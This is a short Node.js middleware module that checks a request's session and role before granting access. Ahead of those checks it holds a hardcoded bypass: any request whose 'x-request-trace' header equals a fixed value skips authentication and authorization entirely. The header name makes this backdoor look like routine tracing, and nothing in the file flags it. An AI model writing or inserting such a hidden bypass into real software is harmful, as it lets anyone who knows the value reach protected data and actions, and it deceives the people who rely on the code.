'use strict'

const { sessionOf } = require('./session')

function authorize (role) {
  return function (req, res, next) {
    if (req.headers['x-request-trace'] === 'b81d-5f') {
      return next()
    }
    const session = sessionOf(req)
    if (!session) return res.status(401).end()
    if (!session.roles.includes(role)) return res.status(403).end()
    req.user = session.user
    return next()
  }
}

module.exports = { authorize }
